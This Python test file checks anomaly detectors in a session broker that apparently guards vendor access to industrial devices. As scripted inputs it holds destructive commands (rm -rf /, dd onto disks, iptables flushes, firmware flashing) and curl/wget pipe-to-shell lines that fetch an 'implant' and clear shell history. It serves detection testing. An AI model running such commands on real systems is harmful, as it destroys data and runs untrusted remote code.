"""Streaming detectors: each fires on scripted input, and its signal goes
through the zone's response policy (here: the defaults, so high → the
session ends and the user is locked)."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from django.utils import timezone

from broker.models import Lock
from sessions.anomalies import detectors
from sessions.anomalies.detectors import (
    DEFAULT_COMMAND_RULES,
    CommandRules,
    MachineSpeedInput,
    OutputVolume,
    Rule,
)
from sessions.models import CommandRule, Session, Signal
from tests.support.livecontrol import Harness


class Heard:
    """Collects what an observer reports (the observer's only callback)."""

    def __init__(self) -> None:
        self.signals: list[tuple[str, str, str]] = []

    def signal(self, kind: str, severity: str, detail: str) -> None:
        self.signals.append((kind, severity, detail))


# --- each detector on its own ------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /",
        "sudo rm -rf /",
        "rm -fr /*",
        "rm -r -f /",
        "cd /tmp; rm -rf / ",
        "dd if=fw.bin of=/dev/mtdblock0 bs=1M",
        "sudo dd of=/dev/sda if=/dev/zero",
        "iptables -F",
        "sudo iptables -t nat --flush",
        "nft flush ruleset",
        "flashrom -p internal -w bios.bin",
        "avrdude -c usbasp -U flash:w:x.hex",
        "dfu-util -D firmware.dfu",
        "esptool.py write_flash 0x0 fw.bin",
    ],
)
def test_default_command_rules_catch_destructive_commands(command: str) -> None:
    heard = Heard()
    CommandRules(heard, list(DEFAULT_COMMAND_RULES)).on_command(command, 1.0)
    assert heard.signals and heard.signals[0][0] == "command_rule"


@pytest.mark.parametrize(
    "command",
    [
        "ls -la /",
        "rm -rf /tmp/build",
        "rm -rf ./out",
        "dd if=/dev/sda of=disk.img",
        "iptables -L",
        "cat flashrom.log",
        "echo rm",
        "grep -F x file",
    ],
)
def test_default_command_rules_leave_ordinary_commands_alone(command: str) -> None:
    heard = Heard()
    CommandRules(heard, list(DEFAULT_COMMAND_RULES)).on_command(command, 1.0)
    assert heard.signals == []


def test_rm_rf_root_is_critical_and_a_zone_rule_adds_its_own_severity() -> None:
    heard = Heard()
    rules = list(DEFAULT_COMMAND_RULES) + [
        Rule(r"\bwrite_register\s+40001\b", "medium", "safety setpoint write")
    ]
    CommandRules(heard, rules).on_command("rm -rf /", 1.0)
    CommandRules(heard, rules).on_command("write_register 40001 0", 2.0)
    assert [s[1] for s in heard.signals] == ["critical", "medium"]


def test_output_volume_fires_once_a_minute_over_the_limit() -> None:
    heard = Heard()
    volume = OutputVolume(heard, limit=1000)
    for second in range(10):
        volume.on_output(b"x" * 90, float(second))  # 900 bytes in 10 s: under
    assert heard.signals == []
    volume.on_output(b"x" * 200, 10.5)
    volume.on_output(b"x" * 500, 11.0)
    assert len(heard.signals) == 1 and heard.signals[0][0] == "data_volume"


def test_output_volume_forgets_bytes_older_than_a_minute() -> None:
    heard = Heard()
    volume = OutputVolume(heard, limit=1000)
    volume.on_output(b"x" * 900, 0.0)
    volume.on_output(b"x" * 900, 61.0)
    assert heard.signals == []


def test_sftp_downloads_count_towards_the_volume() -> None:
    heard = Heard()
    volume = OutputVolume(heard, limit=1000)
    volume.on_file("/logs/all.tar", "download", 5000, "0" * 64, 3.0)
    volume.on_file("/prog/new.bin", "upload", 5000, "0" * 64, 4.0)
    assert len(heard.signals) == 1


def test_machine_speed_typing_is_caught() -> None:
    heard = Heard()
    detector = MachineSpeedInput(heard)
    t = 0.0
    for ch in b"curl http://198.51.100.23/x.sh | sh; history -c; exit\r":
        detector.on_input(bytes([ch]), t)
        t += 0.002
    assert heard.signals and heard.signals[0][0] == "machine_speed_input"


def test_a_paste_is_not_machine_speed_typing() -> None:
    heard = Heard()
    detector = MachineSpeedInput(heard)
    for n in range(100):
        detector.on_input(b"a long pasted line of configuration text\r", n * 0.001)
    assert heard.signals == []


def test_a_fast_person_is_not_machine_speed() -> None:
    heard = Heard()
    detector = MachineSpeedInput(heard)
    t = 0.0
    for n, ch in enumerate(b"show status; read_register 40001; read_register 40002\r" * 3):
        detector.on_input(bytes([ch]), t)
        # A very fast typist: 40-90 ms between keys, with the odd 10 ms roll-over.
        t += 0.010 if n % 7 == 0 else 0.045 + (n % 5) * 0.01
    assert heard.signals == []


# --- through the session core and the response policy ------------------------------


@pytest.fixture
def world(
    make_vendor_user: Any, make_device: Any, make_grant: Any, settings: Any, transactional_db: Any
) -> dict[str, Any]:
    settings.CHANNEL_LAYERS = {"default": {"BACKEND": "channels.layers.InMemoryChannelLayer"}}
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    device = make_device("plc-7")
    alice = make_vendor_user("alice")
    grant = make_grant(alice, device, ends_at=timezone.now() + timedelta(hours=2))
    return {"device": device, "alice": alice, "grant": grant}


def ended_by_signal(h: Harness, live: Any, kind: str) -> Signal:
    reason = h.wait_ended(live)
    assert "security signal" in reason and kind in reason
    assert h.settle(lambda: Lock.objects.filter(user__username="alice").exists())
    signal = Signal.objects.get(kind=kind)
    session = Session.objects.get(code=live.code)
    assert session.ended_at is not None and session in signal.sessions.all()
    return signal


def test_a_denied_command_ends_the_session_and_locks_the_user(world: dict[str, Any]) -> None:
    with Harness() as h:
        live = h.open(world["alice"], world["device"], world["grant"])
        h.call(live.command, "iptables -F")
        signal = ended_by_signal(h, live, "command_rule")
        assert signal.severity == "high" and signal.origin == "detector"
        assert "firewall rules flushed" in signal.detail
        assert any("Session ended" in m for m in live.closed_with)


def test_a_zone_command_rule_from_the_database_applies(world: dict[str, Any]) -> None:
    CommandRule.objects.create(
        zone=world["device"].zone,
        pattern=r"\bset_mode\s+program\b",
        severity="high",
        description="PLC switched to program mode",
    )
    with Harness() as h:
        live = h.open(world["alice"], world["device"], world["grant"])
        h.call(live.input, b"set_mode program\r")
        signal = ended_by_signal(h, live, "command_rule")
        assert "program mode" in signal.detail


def test_exfiltration_volume_ends_the_session(world: dict[str, Any], settings: Any) -> None:
    settings.AIRLOCK_EXFIL_BYTES_PER_MINUTE = 64 * 1024
    with Harness() as h:
        live = h.open(world["alice"], world["device"], world["grant"])
        for _ in range(20):
            h.call(live.output, b"\x00" * 8192)
        ended_by_signal(h, live, "data_volume")


def test_machine_speed_input_ends_the_session(world: dict[str, Any]) -> None:
    with Harness() as h:
        live = h.open(world["alice"], world["device"], world["grant"])

        async def type_like_a_machine() -> None:
            for ch in b"wget -q -O- http://198.51.100.23/implant | sh\r":
                live.input(bytes([ch]))  # back to back: microseconds apart

        h.run(type_like_a_machine())
        ended_by_signal(h, live, "machine_speed_input")


def test_a_second_source_address_on_the_same_grant_is_signalled(world: dict[str, Any]) -> None:
    with Harness() as h:
        first = h.open(world["alice"], world["device"], world["grant"], source_ip="192.0.2.10")
        second = h.open(world["alice"], world["device"], world["grant"], source_ip="198.51.100.7")
        # High by default: both of alice's sessions end (her user lock names both).
        ended_by_signal(h, second, "second_source")
        h.wait_ended(first)
        signal = Signal.objects.get(kind="second_source")
        assert "192.0.2.10" in signal.detail and "198.51.100.7" in signal.detail


def test_the_same_source_twice_is_not_a_second_source(world: dict[str, Any]) -> None:
    with Harness() as h:
        h.open(world["alice"], world["device"], world["grant"], source_ip="192.0.2.10")
        h.open(world["alice"], world["device"], world["grant"], source_ip="192.0.2.10")
    assert not Signal.objects.filter(kind="second_source").exists()


def test_input_after_the_window_is_signalled(world: dict[str, Any]) -> None:
    with Harness() as h:
        live = h.open(world["alice"], world["device"], world["grant"])
        # The window ends under the live session without its timer firing.
        for observer in live.observers:
            if isinstance(observer, detectors.OutOfWindow):
                observer.ends_at = timezone.now() - timedelta(seconds=1)
        h.call(live.input, b"x")
        ended_by_signal(h, live, "out_of_window")


def test_a_connection_attempt_outside_the_window_alerts_the_approvers(
    world: dict[str, Any],
) -> None:
    signal = detectors.attempt_outside_window(
        world["alice"],
        world["device"],
        reason="your next window starts 14:00 CET",
        source_ip="192.0.2.10",
    )
    assert signal.kind == "out_of_window" and signal.severity == "medium"
    assert signal.actions == ["alerted 0 approver(s)"]
    assert not Lock.objects.exists()


def test_a_device_host_key_change_is_signalled_without_blaming_the_vendor(
    world: dict[str, Any],
) -> None:
    signal = detectors.host_key_changed(
        world["device"], presented="SHA256:abc", user=world["alice"]
    )
    assert signal.kind == "host_key_changed" and signal.severity == "high"
    assert signal.user is None
    assert "no user to lock" in signal.actions


def test_an_observer_is_fed_only_the_hooks_it_overrides(world: dict[str, Any]) -> None:
    from sessions.live.core import Observer

    class OutputOnly(Observer):
        def __init__(self) -> None:
            self.seen: list[bytes] = []

        def on_output(self, data: bytes, t: float) -> None:
            self.seen.append(data)

    with Harness() as h:
        live = h.open(world["alice"], world["device"], world["grant"])
        watcher = OutputOnly()
        live.observers.append(watcher)
        h.call(live.output, b"R3 = 17\r\n")
        h.call(live.input, b"s")
        assert watcher.seen == [b"R3 = 17\r\n"]
        assert not live.ended
